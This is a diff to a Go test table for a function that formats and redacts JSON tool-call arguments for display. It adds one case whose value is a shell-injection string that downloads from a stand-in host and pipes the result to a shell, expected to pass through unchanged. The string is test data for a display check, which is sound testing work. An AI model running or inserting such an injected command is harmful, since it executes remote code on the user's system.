@@ -22,7 +22,8 @@ func TestArgumentsShown(t *testing.T) {
 		{`{"a":"\udb40\udc41"}`, `{"a": "\u{e0041}"}`},
 		{`{"a":"two\nlines\t\"q\" \\"}`, `{"a": "two\nlines\t\"q\" \\"}`},
 		{`{"a":"key s3cret-value!"}`, `{"a": "key [redacted]!"}`},
-		{`{"a":"/home/me/f"}`, `{"a": "/home/me/f"}`}, // the user decides about it
+		{`{"a":"://;curl${IFS}evil|sh;:@x"}`, `{"a": "://;curl${IFS}evil|sh;:@x"}`}, // what a cell chose is no secret
+		{`{"a":"/home/me/f"}`, `{"a": "/home/me/f"}`},                               // the user decides about it
 		{`{"a":"é漢"}`, `{"a": "é漢"}`},
 	}
 	for _, test := range tests {
